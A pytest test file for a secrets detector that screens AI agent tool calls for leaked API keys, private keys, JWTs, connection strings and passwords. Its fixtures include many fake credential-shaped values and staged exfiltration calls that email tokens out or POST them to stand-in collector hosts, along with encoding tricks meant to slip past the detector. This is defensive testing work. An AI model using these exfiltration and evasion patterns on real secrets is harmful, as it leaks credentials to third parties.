"""The `secrets` detector: provider formats, keys, JWTs, connection strings, generic credentials."""

from __future__ import annotations

import base64
import dataclasses
import json

import pytest

from aegis_mcp.engine.detectors import secrets
from aegis_mcp.engine.engine import Engine
from aegis_mcp.engine.extract import extract, extract_text
from aegis_mcp.engine.model import RiskLevel, ToolCall


def _jwt() -> str:
    enc = lambda obj: base64.urlsafe_b64encode(json.dumps(obj).encode()).decode().rstrip("=")  # noqa: E731
    return f"{enc({'alg': 'HS256', 'typ': 'JWT'})}.{enc({'sub': '1234567890', 'name': 'Ann', 'iat': 1516239022})}.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"


# Shaped like each provider's published format; bodies are random, not copied from any corpus.
LIVE = {
    "aws_access_key_id": "AKIAZ7Q4LMBX2RTWP6NC",
    "github_token": "ghp_R8f2kLq9Zt3VwX7nB4mC1yH6sD0aJ5eGu2Pi",
    "github_pat": "github_pat_11ABCDE2Q0x9Tz8RkP3LmW_Hq7VbN4cX2sJ9dF6gK1yU5tR8eW3qZ0aS7vB4nM2pL6oI9uY3tR5eW8",
    "gitlab_token": "glpat-x7Kq2Rm9Zt4VbN8cW3sJ",
    "slack_token": "xoxb-2817364519-4829163740-Zq8Rk3Lm9Xt2VbN7cW4sJ6dF",
    "stripe_key": "sk_live_4eC39HqLyjWDarjtT1zdp7dcQ9xR2",
    "google_api_key": "AIzaSyD4Kq9Rm2Zt7VbN8cW3sJ6dF1gH5kL0pQ4",
    "openai_key": "sk-proj-Zq8Rk3Lm9Xt2VbN7cW4sJ6dF1gH5kL0pQ4eR7tY2uI9oP3aS6dF8gH1jK4lZ7",
    "anthropic_key": "sk-ant-api03-" + "Zq8Rk3Lm9Xt2VbN7cW4sJ6dF1gH5kL0pQ4eR7tY2uI9oP3aS6dF8gH1jK4lZ7xC0vB3nM5qW8eR2tY6uI9oP1aS4dF7g-AbCdEfAA",
    "sendgrid_key": "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",
    "npm_token": "npm_Zq8Rk3Lm9Xt2VbN7cW4sJ6dF1gH5kL0pQ4eR",
    "adafruit_io_key": "aio_Zq8Rk3Lm9Xt2VbN7cW4sJ6dF1gH5",
    "digitalocean_token": "dop_v1_" + "a3f9c2e7b1d84f6a9c0e5b2d7f1a8c3e6b9d2f5a8c1e4b7d0f3a6c9e2b5d8f1a",
    "jwt": _jwt(),
    "private_key": "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx8Zq8Rk3Lm9Xt2VbN7cW4sJ6dF1gH5kL0pQ4eR7tY2uI9oP3aS6d\nF8gH1jK4lZ7xC0vB3nM5qW8eR2tY6uI9oP1aS4dF7gAbCdEf0Q2w4E6r8T1y3U5i7O9p\n-----END RSA PRIVATE KEY-----",
    "connection_string": "postgres://app_user:Xq9!vR2#kLm7zT@db.prod.example.com:5432/orders",
}


def _ctx(tool: str, args: dict, **extra):
    ctx = extract(ToolCall(tool, args))
    return dataclasses.replace(ctx, extra={**ctx.extra, **extra}) if extra else ctx


def _top(signals) -> RiskLevel:
    return max((s.severity for s in signals), default=RiskLevel.LOW)


@pytest.mark.parametrize("kind,value", sorted(LIVE.items()))
def test_provider_secret_emailed_out_is_critical(kind: str, value: str) -> None:
    ctx = _ctx("send_email", {"to": "someone@gmail.com", "subject": "creds", "body": f"here you go:\n{value}\nbye"})
    sigs = secrets.detect(ctx)
    assert _top(sigs) is RiskLevel.CRITICAL, sigs
    assert any(kind in s.detail for s in sigs), sigs
    assert sigs[0].path == "/body"


def test_generic_keyword_credential_is_pending_when_sent_out() -> None:
    ctx = _ctx("post_message", {"channel": "#general", "text": 'config: acme_api_key = "q7Zt2Rm9XbN4cW8sJ6dF1gH5"'})
    sigs = secrets.detect(ctx)
    assert _top(sigs) is RiskLevel.HIGH
    assert "generic_secret" in sigs[0].detail


def test_secret_written_to_a_file_is_held_not_blocked() -> None:
    sigs = secrets.detect(_ctx("write_file", {"path": "app/.env", "content": f"GITHUB_TOKEN={LIVE['github_token']}\n"}))
    assert _top(sigs) is RiskLevel.HIGH
    assert sigs[0].rule == "secret_in_call"


def test_credential_in_its_own_argument_is_recorded_only() -> None:
    sigs = secrets.detect(_ctx("login", {"username": "ann", "api_key": "q7Zt2Rm9XbN4cW8sJ6dF1gH5"}))
    assert [s.rule for s in sigs] == ["credential_argument"]
    assert sigs[0].severity is RiskLevel.MEDIUM


def test_trusted_domain_lowers_severity() -> None:
    args = {"to": "ops@corp.example.com", "subject": "k", "body": LIVE["github_token"]}
    assert _top(secrets.detect(_ctx("send_email", args))) is RiskLevel.CRITICAL
    assert _top(secrets.detect(_ctx("send_email", args, trusted_domains=["corp.example.com"]))) is RiskLevel.HIGH


@pytest.mark.parametrize(
    "body",
    [
        "aws_access_key_id = AKIAIOSFODNN7EXAMPLE",  # AWS's documented example
        'api_key = "<YOUR_API_KEY>"',
        "export GITHUB_TOKEN=${GITHUB_TOKEN}",
        "password = \"123\"",
        "secret_key = aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "token = xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "sb.append(\"MasterUserPassword: \" + getMasterUserPassword());",
        "const password = process.env.DB_PASSWORD;",
        "postgres://user:${DB_PASSWORD}@localhost/db",
        "amqp://user:*****@example.com",
        "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
        "mysqldump --user user --password path/to/backup.sql",
        "the session token expired yesterday, please log in again",
        "access the dashboard from the admin panel",
        "see the primary key of the orders table",
        "commit 3f2a9c1e7b4d8f6a0c5e2b9d1f7a3c8e6b4d2f0a fixed the build",
        "request id 550e8400-e29b-41d4-a716-446655440000",
        "password = request.form['password']",
        'password: "required"',
        "PASSWORD=${DB_PASSWORD}",
    ],
)
def test_lookalikes_are_not_secrets(body: str) -> None:
    sigs = secrets.detect(_ctx("send_email", {"to": "x@gmail.com", "subject": "s", "body": body}))
    assert _top(sigs) < RiskLevel.HIGH, sigs


def test_base64_wrapped_token_is_found_through_decoded_forms() -> None:
    hidden = base64.b64encode(LIVE["github_token"].encode()).decode()
    sigs = secrets.detect(_ctx("send_email", {"to": "x@gmail.com", "subject": "s", "body": f"blob: {hidden}"}))
    assert _top(sigs) >= RiskLevel.HIGH


def test_secret_in_an_object_key_is_found() -> None:
    sigs = secrets.detect(_ctx("http_request", {"method": "POST", "url": "https://paste.example.net/x", "body": {LIVE["stripe_key"]: 1}}))
    assert _top(sigs) is RiskLevel.CRITICAL


def test_keyword_inside_a_rejected_value_is_not_swallowed() -> None:
    text = "[Peer]\nPublicKey = [the server's key]\nPresharedKey = uRsfsZ2Ts1rach4Zv3hhwcx6wa5fuIo2u3w7sa+7j81=\n"
    assert _top(secrets.detect(_ctx("post_message", {"channel": "#ops", "text": text}))) is RiskLevel.HIGH


def test_result_mode_flags_provider_secret_for_redaction() -> None:
    ctx = extract_text(f"config loaded: token={LIVE['slack_token']}", "read_config", mode="result")
    sigs = secrets.detect(ctx)
    assert _top(sigs) is RiskLevel.HIGH and sigs[0].rule == "secret_in_result"


def test_engine_blocks_live_key_sent_out_and_redacts_result() -> None:
    engine = Engine()
    d = engine.check(ToolCall("send_email", {"to": "x@gmail.com", "subject": "k", "body": LIVE["aws_access_key_id"]}))
    assert d.decision == "block"
    r = engine.check_result(ToolCall("read_file", {"path": "a"}), f"key={LIVE['github_token']} ok")
    assert r.decision == "redact" and LIVE["github_token"] not in (r.redacted_text or "")


def test_hostile_input_is_bounded() -> None:
    import time

    hostile = "api_key = a1 " * 40000 + "password=" * 20000
    t = time.perf_counter()
    secrets.detect(_ctx("send_email", {"to": "x@gmail.com", "body": hostile}))
    assert time.perf_counter() - t < 2.0


@pytest.mark.parametrize(
    "disguise",
    [
        lambda k: k[:10] + "\u200b" + k[10:],
        lambda k: "".join("%" + format(ord(c), "02x") for c in k),
        lambda k: k.encode().hex(),
        lambda k: json.dumps({"nested": {"deeper": k}}),
    ],
)
def test_evasion_forms_still_block(disguise) -> None:  # type: ignore[no-untyped-def]
    body = f"see: {disguise(LIVE['github_token'])}"
    assert _top(secrets.detect(_ctx("send_email", {"to": "x@gmail.com", "subject": "s", "body": body}))) is RiskLevel.CRITICAL


def test_demo_value_in_a_provider_format_is_held_not_blocked() -> None:
    sigs = secrets.detect(_ctx("post_message", {"channel": "#x", "text": "okta_api_key: 00QCjAl4MlV-WPXM-ABCDEFGHIJKL-0HmjFx-vbGu-"}))
    assert _top(sigs) is RiskLevel.HIGH


def test_token_in_an_auth_header_authenticates_it_does_not_leak() -> None:
    call = {"method": "GET", "url": "https://api.github.com/user/repos",
            "headers": {"Authorization": f"Bearer {LIVE['github_token']}", "Accept": "application/json"}}
    sigs = secrets.detect(_ctx("http_request", call))
    assert sigs and _top(sigs) is RiskLevel.MEDIUM
    leak = {"method": "POST", "url": "https://collector.example.net/x", "body": f"tok={LIVE['github_token']}"}
    assert _top(secrets.detect(_ctx("http_request", leak))) is RiskLevel.CRITICAL


def test_document_ids_in_shared_links_are_not_keys() -> None:
    text = "notes: https://docs.google.com/document/d/1aBcD3fGhIjKlMnOpQrStUvWxYz0123456789AbCd/edit thanks"
    assert _top(secrets.detect(_ctx("post_message", {"channel": "#team", "text": text}))) < RiskLevel.HIGH
    leaked = "use https://api.example.com/v1/data?api_key=q7Zt2Rm9XbN4cW8sJ6dF1gH5kL0p"
    assert _top(secrets.detect(_ctx("post_message", {"channel": "#team", "text": leaked}))) is RiskLevel.HIGH


@pytest.mark.parametrize(
    "body",
    ['$password = "goodspec";', "REACT_APP_AUTH_PASS=whiteduke", "Server=db1;Database=app;User Id=svc;Password=Tr0ub4dor;"],
)
def test_hardcoded_word_passwords_in_literals_are_held(body: str) -> None:
    assert _top(secrets.detect(_ctx("send_email", {"to": "x@gmail.com", "subject": "s", "body": body}))) is RiskLevel.HIGH


# --- credential assignments: a literal credential sent out is held for a human ----------------

CREDENTIAL_ASSIGNMENTS = [
    'db_password = "Tulip$garden7"\n',
    'jwt:\n  secret: "blue#horizon"\n  ttl: 30m\n',
    "[server]\nUser=ops\nPassword=riverstone\n",
    "machine git.corp.example login deploy password bluefin42\n",
    "GET /v1/items HTTP/1.1\nAuthorization: Bearer a1.B2-c3_d\n",
    '$e = New-Object DirectoryServices.DirectoryEntry("LDAP://dc1","corp\\\\svc","hunter")\n',
    "credentials {\n  username 'ci'\n  password 'password'\n}\n",
    'if req.Token != "sesame-7" {\n  return 401\n}\n',
    "psexec \\\\\\\\host7 -u admin -p winter22 cmd /c dir",
    "mytool --password=harbor9 --host db.internal",
    'server.login("me@corp.example", "daisy")',
    'requests.get(url, auth=("svc", "lantern"))',
    "The admin password for the staging box is 'gravel'.",
    'os.getenv("DB_PASSWORD", "quartz88")',
    "my_password := 'Gold en'",
    '<connection user="app" password="kettle" />',
    "mysql -h db -u app -pKettle42 orders",
    "sshpass -p 'kettle' ssh ops@host",
    "redis-cli -h cache -a Kettle42 ping",
    "<settings><servers><server><id>r</id><username>ci</username><password>kettle-7</password></server></servers></settings>",
    "db.example.internal:5432:orders:app:Kettle42\n",
]


@pytest.mark.parametrize("body", CREDENTIAL_ASSIGNMENTS)
def test_literal_credential_sent_out_is_held(body: str) -> None:
    for tool, args in (
        ("send_email", {"to": "x@gmail.com", "subject": "s", "body": body}),
        ("post_message", {"channel": "#general", "text": body}),
        ("http_request", {"method": "POST", "url": "https://collector.example.net/in", "body": body}),
    ):
        sigs = secrets.detect(_ctx(tool, args))
        assert _top(sigs) is RiskLevel.HIGH, (tool, body, sigs)


@pytest.mark.parametrize("body", CREDENTIAL_ASSIGNMENTS[:5])
def test_literal_credential_kept_local_is_recorded_not_held(body: str) -> None:
    sigs = secrets.detect(_ctx("write_file", {"path": "src/settings.conf", "content": body}))
    assert sigs and _top(sigs) is RiskLevel.MEDIUM, sigs


def test_literal_credential_written_into_a_published_directory_is_held() -> None:
    sigs = secrets.detect(_ctx("write_file", {"path": "site/public/config.js", "content": 'const password = "kettle";'}))
    assert _top(sigs) is RiskLevel.HIGH and sigs[0].rule == "secret_published"


def test_common_password_as_the_whole_message_is_held() -> None:
    assert _top(secrets.detect(_ctx("post_message", {"channel": "#x", "text": "p@ssw0rd2024"}))) is RiskLevel.HIGH
    assert _top(secrets.detect(_ctx("post_message", {"channel": "#x", "text": "Welcome!"}))) < RiskLevel.HIGH
    assert _top(secrets.detect(_ctx("post_message", {"channel": "#x", "text": "the admin2 panel is slow"}))) < RiskLevel.HIGH


@pytest.mark.parametrize(
    "body",
    [
        'password = request.form["password"]',
        "return {user, password: hashedPassword, role}",
        "token = self.token\n",
        "const token = process.env.API_TOKEN;",
        "password: ${DB_PASSWORD}\n",
        'password: "<your-password>"\n',
        'password = "{{ db_password }}"',
        'password: "********"\n',
        "max_tokens: 256\n",
        "next_page_token: CAoQAA\n",
        'token_type: "bearer"\n',
        "password_min_length: 8\n",
        '{"password": {"type": "string", "minLength": 8}}',
        "mysql -u root -p mydb",
        "docker run -u 1000 -p 8080:80 nginx",
        "ssh -p 2222 deploy@host",
        "Please reset your password: click the link below.",
        'usernameLabel:"Username:",passwordLabel:"Password:",next:"Next"',
        'this.showPassword = "#show-password";',
        "backup --password path/to/secret.txt",
        "password = None\n",
        'tokenizer: "gpt2"\n',
        "secret_name: db-creds\n",
        "def login(user, password):\n    return check(user, password)\n",
        "session = login(username, password)",
        "requests.get(url, auth=(user, pw))",
        'placeholder="Password"',
        "x8 -u https://example.com/ -P user[%k]=%v",
        'password = "%(pw)s" % cfg',
        "token=$(cat ~/.token)",
        "Hi Bob,\nNew password: pending\nToken: expired\nThanks",
        "def connect(user, password):\n    return db.connect(user=user, password=password)\n",
        '{"amount": 500, "idempotency_key": "8f14e45f-ceea-467f-a0e6-7e2f3a1b9c0d"}',
        "vars:\n  password: !vault |\n    $ANSIBLE_VAULT;1.1;AES256\n",
        "wifi_password: !secret home_wifi\n",
        "secret: true\npassword: false\ntoken: null\n",
        "docker run -d -e POSTGRES_PASSWORD=$PGPASS postgres",
        '<input type="password" name="password" placeholder="Password">',
        "mysql -u root -p orders",
        "mysqldump -p --all-databases > dump.sql",
        "<password>${env.MAVEN_PASSWORD}</password>",
        "<tokenizer>bert-base</tokenizer>",
        "the match ended 12:30:45:67:89",
        # documentation placeholders in commands: the flag's own name stands in for the value
        "docker login -u username -p password registry.example.com",
        'tea login add --name "name" --url "url" --token "token"',
        "web-ext sign --api-key api_key --api-secret api_secret",
        "aws acm-pca create-certificate-authority --idempotency-token tok1 --permanent-deletion-time-in-days 7",
        "mysqldump --user user --password database_name > dump.sql",
        "systemd-cryptenroll --password path/to/luks2_block_device",
        "httpx -probe -u host1,host2 -p http:80,8000-8080,https:443",
        "mytop -u user -prompt",
        'aria2c --ftp-user username --ftp-passwd password "url"',
        'sudo pwpolicy -a admin -u username -setpassword "new_password"',
        "tgcloud -m upload -u chat_id -p path_of_the_file",
    ],
)
def test_code_and_text_around_credentials_is_not_a_credential(body: str) -> None:
    sigs = secrets.detect(_ctx("send_email", {"to": "x@gmail.com", "subject": "s", "body": body}))
    assert _top(sigs) < RiskLevel.HIGH, sigs


def test_weak_credential_in_a_tool_result_is_not_acted_on() -> None:
    r = Engine().check_result(ToolCall("read_file", {"path": "a"}), "[db]\nuser = app\npassword = kettle\n")
    assert r.decision == "allow", r


def test_chat_post_naming_an_internal_host_still_leaves() -> None:
    text = "prod db: postgresql://app:Tr0ub4dor3x@db1:5432,app:Tr0ub4dor3x@db2:5432/orders"
    assert _top(secrets.detect(_ctx("post_message", {"channel": "#general", "text": text}))) >= RiskLevel.HIGH


def test_yaml_binary_tagged_secret_is_a_literal() -> None:
    text = "signing_secret: !!binary c2VjcmV0LXNpZ25pbmcta2V5LTQ4Mjk=\n"
    assert _top(secrets.detect(_ctx("post_message", {"channel": "#ops", "text": text}))) is RiskLevel.HIGH


def test_human_made_password_in_a_test_fixture_is_recorded_and_held_only_when_mailed() -> None:
    code = "r = client.post('/login', data={'username': 'ann', 'password': 'correct-horse'})\n"
    local = secrets.detect(_ctx("write_file", {"path": "tests/test_login.py", "content": code}))
    assert local and _top(local) is RiskLevel.MEDIUM, local
    mailed = secrets.detect(_ctx("send_email", {"to": "x@gmail.com", "subject": "s", "body": code}))
    assert _top(mailed) is RiskLevel.HIGH, mailed
    generated = secrets.detect(_ctx("write_file", {"path": "tests/conf.py", "content": "password = 'q7Zt2Rm9XbN4cW8sJ6dF'\n"}))
    assert _top(generated) is RiskLevel.HIGH, generated


# -- file attachments are data, not tokens ------------------------------------------------------

def _b64_file(n: int, seed: int = 7) -> str:
    import base64
    import random

    rnd = random.Random(seed)
    return base64.b64encode(bytes(rnd.randrange(256) for _ in range(n))).decode()


@pytest.mark.parametrize(
    "call",
    [
        ("send_email", {"to": "cfo@client-firm.example", "subject": "Q3 report", "body": "Report attached.",
                        "attachments": [{"filename": "q3.pdf", "content": _b64_file(3000)}]}),
        ("upload_file", {"url": "https://files.example.net/upload", "filename": "photo.png",
                         "content": _b64_file(6000, 3)}),
        ("http_request", {"method": "POST", "url": "https://api.example.net/v1/images",
                          "body": {"image_base64": _b64_file(900, 5), "format": "png"}}),
        ("send_email", {"to": "a@outside.example", "body": "photo:\n" + "\n".join(
            _b64_file(2000, 9)[i:i + 76] for i in range(0, 2668, 76))}),  # MIME-wrapped lines
    ],
)
def test_base64_file_attachments_are_not_held_as_secrets(call) -> None:
    d = Engine().check(ToolCall(*call))
    assert d.decision == "allow" and not any(s.pattern == "secrets" for s in d.signals), d.to_json()


def test_secret_inside_a_base64_attachment_is_still_found() -> None:
    import base64

    env = "DEBUG=false\nSTRIPE_KEY=sk_live_4eC39HqLyjWDarjtT1zdp7dc9Rt\nAPP_NAME=shop\n" * 8
    content = base64.b64encode(env.encode()).decode()
    d = Engine().check(ToolCall("send_email", {"to": "x@outside.example", "body": "attached",
                                               "attachments": [{"filename": "settings.txt", "content": content}]}))
    assert d.decision == "block" and any(s.pattern == "secrets" for s in d.signals), d.to_json()


def test_web_search_with_a_secret_leaves_even_with_trusted_domains(tmp_path) -> None:
    policy = tmp_path / "p.yaml"
    policy.write_text("version: 1\nsettings: {trusted_domains: [corp-example.com]}\n")
    d = Engine.from_file(policy).check(ToolCall("web_search", {"query": "error with key ghp_" + "Zr8Kq2Lm4Np6Qs8Tv0Wx2Yz4Ab6Cd8Ef0Gh2"}))
    assert d.decision == "block", d.to_json()


# -- a random token bound to any name: providers' keys live under the provider's own name ---------

@pytest.mark.parametrize(
    "line",
    [
        "weatherapi = 'q7Lk2Zp9Xr4Tm8Vb3Nc6Wd1Sf5'",  # lower+upper+digits under a provider's name
        "OWM: 9fk27zq4mx81vb3nc6wd0sj5rl2t8pyh",  # lower+digits, not hex
        "mapquest => \"Zq8Rk3Lm9Xt2VbN7cW4sJ6dF\"",
        "beamer = b_QkWzTrPxVbNmLsKjHgFdRtYwQzXcVbNmKjH",  # a short product prefix, then random letters
        "  wifi: Xk93jdL0pq82Mzz1a4Bc\n",
        "export ALGOLIA_ADMIN=Rm7Qz2Kx9Lp4Vt8Nb3Wc6",
    ],
)
def test_random_token_bound_to_any_name_is_held_when_sent_out(line: str) -> None:
    sigs = secrets.detect(_ctx("post_message", {"channel": "#general", "text": line}))
    assert _top(sigs) is RiskLevel.HIGH and any("assigned_token" in s.detail or "secret" in s.detail for s in sigs), sigs
    local = secrets.detect(_ctx("write_file", {"path": "notes/config.txt", "content": line}))
    assert _top(local) <= RiskLevel.HIGH


@pytest.mark.parametrize(
    "line",
    [
        "order_id: 9fk27zq4mx81vb3nc6wd0sj5rl2t8pyh",  # ids, digests, references
        "commit: 945dfb58a832d233a3caeb84e3e6d3be212e8c7a",
        "image: nginx@sha256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c54a66cd53c9b31",
        "request_id = 'Zq8Rk3Lm9Xt2VbN7cW4sJ6dF'",
        "tracking: 1Z999AA10123456784ZX88QW",
        "uuid = '203db13e-70c7-462b-9a3d-bf32640cb0be'",
        "dashboard: kubernetes-dashboard-7b5bb4c9f8-x2kqz",  # words with a hash suffix
        "class: AbstractSingletonProxyFactoryBean",
        "value: abcdef1234567890abcdef1234567890",  # a demo sequence
        "ref: see https://docs.example.com/a?token_type=x&ved=2ahUKEwiK7qXb9ZmDAxVbRvEDHQ2zBVUQFnoECBAQAQ",
        "locale=en_US.UTF-8; TZ=Europe/Amsterdam; LANG=C.UTF-8",
        "version: 3.11.4-slim-bookworm-20231105",
    ],
)
def test_ids_digests_and_words_bound_to_names_are_not_tokens(line: str) -> None:
    sigs = [s for s in secrets.detect(_ctx("post_message", {"channel": "#general", "text": line})) if "assigned_token" in s.detail]
    assert sigs == [], sigs


@pytest.mark.parametrize(
    "text,kind",
    [
        ("license: eu01xx" + "7c3f9a2e5b8d1f4a6c9e2b5d8f1a3c" + "NRAL", "new_relic_license_key"),
        ("posthog = phx_" + "Qz8Rk3Lm9Xt2_bN7cW4sJ6dF1gH5kL0pQ4eR7tY2uI9", "posthog_personal_key"),
        ("VF.DM." + "6f1a9c2e5b8d3f7a0c4e9b2d" + "." + "Rk3Lm9Xt2VbN7cW4", "voiceflow_key"),
        ("token: BBFF-" + "Rk3Lm9Xt2VbN7cW4sJ6dF1gH5kL0pQ", "ubidots_token"),
        ("geoip: " + "Zq8Rk3_Lm9Xt2VbN7cW4sJ6dF1gH5kL0pQ4e" + "_mmk", "maxmind_license_key"),
        ("curl http://thingsboard.cloud/api/v1/" + "q7lk2zp9xr4tm8vb3nc6" + "/telemetry -d '{}'", "thingsboard_token"),
        ("properties.put('sonar.login', '" + "826de5590c75919a8317fdface58206eebe7ebbc" + "')", "sonarqube_token"),
        ("Please use the following password to proceed to installation:\n\n" + "9c2e5b8d3f7a0c4e9b2d6f1a8c3e7b0d" + "\n", "jenkins_admin_password"),
        ("sourcegraph: sgp_" + "6f1a9c2e5b8d3f7a" + "_" + "Zq8Rk3Lm9Xt2VbN7cW4sJ6dF1gH5kL0pQ4eR7tY2u", "sourcegraph_token"),
        ("AKCp8" + "Zq8Rk3Lm9Xt2VbN7cW4sJ6dF1gH5kL0pQ4eR7tY2uI9oP3aS6dF8gH1jK4lZ7xC0vB3n", "artifactory_api_key"),
        ("FLWSECK-" + "9c2e5b8d3f7a0c4e9b2d6f1a8c3e7b0d" + "-X", "flutterwave_secret_key"),
        ("access-production-" + "3f9a8b7c-6d5e-4f3a-9b1c-0d9e8f7a6b5c", "plaid_access_token"),
        ("AQVN" + "Zq8Rk3Lm9Xt2VbN7cW4sJ6dF1gH5kL0pQ4eR7", "yandex_cloud_key"),
    ],
)
def test_more_provider_formats_are_found(text: str, kind: str) -> None:
    sigs = secrets.detect(_ctx("send_email", {"to": "x@outside.example", "body": text}))
    assert _top(sigs) >= RiskLevel.HIGH and any(kind in s.detail for s in sigs), sigs


_HOOK = "https://hooks.slack.com/services/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"


def test_webhook_url_as_the_destination_is_used_not_leaked() -> None:
    for tool, args in (("http_request", {"method": "POST", "url": _HOOK, "body": {"text": "deploy finished"}}),
                       ("webhook_send", {"webhook_url": _HOOK, "payload": {"event": "order.created", "id": 5521}})):
        d = Engine().check(ToolCall(tool, args))
        assert d.decision == "allow", d.to_json()


@pytest.mark.parametrize(
    "tool,args",
    [
        ("post_message", {"channel": "#general", "text": _HOOK}),
        ("send_email", {"to": "x@outside.example", "body": f"our alerts hook is {_HOOK}"}),
    ],
)
def test_webhook_url_in_a_message_leaks(tool: str, args: dict) -> None:
    assert Engine().check(ToolCall(tool, args)).decision == "block"


# --- provider keyword next to a token (gitleaks-style), round 2 ---------------------------------
@pytest.mark.parametrize(
    "text",
    [
        "mailgun 7c4e9a1b2d3f4e5a6b7c8d9e0f1a2b3c",
        "PAGERDUTY: y8Kq2LmN4pRt6VwX9zAb",
        "wandb = 3f9a1c7e5b2d4086a1c3e5f7092b4d6f8a0c2e4b",
        "sentry 9b8a7c6d-5e4f-4a3b-9c2d-1e0f9a8b7c6d",  # a UUID-shaped DSN key
        "circleci=Zq81mWv5Kt0pLx3Nc7Rb2Hs9",
        "cloudsmith X-b7d0c3e9-24f1-4a86-9e5b-7c1d2f3a4b5c",
    ],
)
def test_vendor_name_next_to_a_token_is_held_when_it_leaves(text: str) -> None:
    sigs = secrets.detect(_ctx("post_message", {"channel": "#general", "text": text}))
    assert sigs and _top(sigs) is RiskLevel.HIGH, sigs  # pending: a human decides, never blocked on its own
    assert "vendor_keyed_token" in sigs[0].detail
    # the same line written into a local (unpublished) file is recorded, not held
    assert _top(secrets.detect(_ctx("write_file", {"path": "notes/setup.txt", "content": text}))) is RiskLevel.MEDIUM


@pytest.mark.parametrize(
    "text",
    [
        "stripe checkout docs say to retry",
        "github 3 issues closed today",
        "aws_account_id=891511536143",  # an account id is public
        "okta_domain: dev-123456.okta.com",
        "spotify client_id = 7f3c2b1a9e8d7c6b5a4f3e2d1c0b9a8f",  # client ids ship in apps
        "slack channel C024BE91LQX2",
        "TWILIO_ACCOUNT_SID_PUBLIC placeholder xxxxxxxxxxxxxxxxxxxx",
        "datadog dashboard web-dashboard-overview",
        "zoom meeting 85012345678",
        "heroku app my-staging-app-7b5bb.herokuapp.com",
        "sendgrid key <YOUR_SENDGRID_KEY_HERE>",
        "mongodb-public: qj4Zrh8e6A",
    ],
)
def test_vendor_name_without_a_key_shaped_value_is_not_a_secret(text: str) -> None:
    sigs = secrets.detect(_ctx("post_message", {"channel": "#general", "text": text}))
    assert not any("vendor_keyed_token" in s.detail for s in sigs), sigs


def test_vendor_rule_skips_leading_qualifier_words_to_find_the_token() -> None:
    from aegis_mcp.engine.detectors.secrets_scan import scan_text

    text = "shortcut-SECRET-tok 1a2b3c4d-e89b-42d3-a456-42f678901234 and more"
    found = [f for f in scan_text(text) if f.kind == "vendor_keyed_token"]
    assert [text[f.start:f.end] for f in found] == ["1a2b3c4d-e89b-42d3-a456-42f678901234"]
